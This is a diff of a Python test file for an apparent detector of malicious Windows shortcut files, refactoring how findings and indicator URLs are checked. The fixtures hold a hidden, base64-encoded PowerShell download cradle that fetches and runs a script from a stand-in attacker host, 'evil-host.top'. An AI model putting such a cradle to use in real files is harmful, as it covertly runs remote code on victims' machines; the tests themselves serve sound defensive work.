@@ -9,8 +9,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from svc.assistant.findings import Gap, ToolEvent
+from svc.assistant.findings import Finding as TypedFinding
+from svc.assistant.findings import Gap, ToolEvent, columns, with_facts
 from svc.assistant.findings import LooseFinding as Finding
+from svc.assistant.skills.indicators.findings import IndicatorFacts
 from svc.assistant.skills.shortcut import answer as section
 from svc.assistant.skills.shortcut.tool import inspect
 from tests.support import office_files as made
@@ -24,7 +26,7 @@ def run(data: bytes, name: str = "a.lnk") -> list[ToolEvent]:
 
 
 def found(data: bytes, name: str = "a.lnk") -> list[Finding]:
-    return [item for item in run(data, name) if isinstance(item, Finding)]
+    return [item for item in run(data, name) if isinstance(item, (Finding, TypedFinding))]
 
 
 def traits(data: bytes, name: str = "a.lnk") -> set[str]:
@@ -74,14 +76,14 @@ def test_a_cradle_in_disguise_is_malicious_and_shown_whole():
     items = found(data)
     assert verdict(data) == "malicious"
     assert CRADLE in section.SECTION.body(items)
-    assert "http://evil-host.top/a" in {f.attributes.get("value") for f in items if f.kind == "indicator"}
+    assert "http://evil-host.top/a" in {f.facts.value for f in with_facts(items, IndicatorFacts)}
 
 
 def test_an_encoded_command_is_decoded_and_its_address_is_an_indicator():
     encoded = base64.b64encode("IEX (iwr http://evil-host.top/b.ps1)".encode("utf-16-le")).decode()
     items = found(made.shortcut(POWERSHELL, f"-w hidden -enc {encoded}"))
-    assert "decoded code" in {f.attributes.get("part") for f in items}
-    assert "http://evil-host.top/b.ps1" in {f.attributes.get("value") for f in items if f.kind == "indicator"}
+    assert "decoded code" in {columns(f).get("part") for f in items}
+    assert "http://evil-host.top/b.ps1" in {f.facts.value for f in with_facts(items, IndicatorFacts)}
 
 
 def test_a_date_that_no_calendar_has_is_left_out():
@@ -93,7 +95,7 @@ def test_a_date_that_no_calendar_has_is_left_out():
 
 def test_what_is_no_shortcut_is_a_gap():
     items = run(b"[InternetShortcut]")
-    assert not [item for item in items if isinstance(item, Finding)]
+    assert not [item for item in items if isinstance(item, (Finding, TypedFinding))]
     assert any(isinstance(item, Gap) for item in items)
 
 
